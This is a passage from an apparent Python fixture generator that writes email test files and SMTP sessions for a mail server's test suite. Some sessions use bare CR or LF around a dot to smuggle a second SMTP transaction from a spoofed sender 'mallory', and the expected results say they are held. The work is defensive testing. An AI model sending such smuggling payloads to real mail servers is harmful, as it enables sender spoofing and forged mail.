    "cr-dot-cr.txt": b"\r.\r",
    "crlf-dot-lf.txt": b"\r\n.\n",
    "lf-dot-crlf.txt": b"\n.\r\n",
    "crlf-dot-cr.txt": b"\r\n.\r",
}


def smuggling_session(name: str, fake_end: bytes) -> bytes:
    """EHLO, one message from ana whose data holds `fake_end` and a second SMTP
    transaction from mallory, then the real end of data and QUIT."""
    commands = lines("EHLO client.example.org", f"MAIL FROM:<{ANA}>", f"RCPT TO:<{POST}>", "DATA")
    outer = eml(head("smuggling-" + name.removesuffix(".txt"), "Innocent post"),
                b"Hello everyone.")
    smuggled = lines(f"MAIL FROM:<{MALLORY}>", f"RCPT TO:<{POST}>", "DATA",
                     f"From: Ana <{ANA}>", f"To: {POST}", "Subject: Smuggled",
                     "Message-ID: <smuggling-inner.corpus@example.org>", "",
                     "This message was smuggled in by mallory.")
    return commands + outer + fake_end + smuggled + b"\r\n.\r\n" + lines("QUIT")


SMUGGLING_EXPECT = {
    "outcome": "hold",
    "messages": 1,
    "senders": [ANA],
    "why": "exactly one message, from ana@example.org, whose data contains bare CR or LF "
           "next to a dot; the embedded MAIL FROM from mallory is body text, never a "
           "second message; held (a dot line next to a bare line end) and never re-sent "
           "as is",
}


def main() -> int:
    expected = {}
    written = set()
    for name, (build, expect) in SAMPLES.items():
        data = build()
        assert isinstance(data, bytes), name
        (HERE / name).write_bytes(data)
        expected[name] = expect
        written.add(name)
    for stale in HERE.glob("*.eml"):
        if stale.name not in written:
            stale.unlink()
    (HERE / "expected.json").write_text(
        json.dumps(expected, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    folder = HERE / "smuggling"
    folder.mkdir(exist_ok=True)
    for name, fake_end in SMUGGLING.items():
        (folder / name).write_bytes(smuggling_session(name, fake_end))
    (folder / "expected.json").write_text(
        json.dumps({name: SMUGGLING_EXPECT for name in SMUGGLING}, indent=1) + "\n",
        encoding="utf-8")
    total = sum(p.stat().st_size for p in HERE.rglob("*") if p.is_file())
    print(f"wrote {len(expected)} messages and {len(SMUGGLING)} SMTP sessions, "
          f"{total / 1e6:.1f} MB in all", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
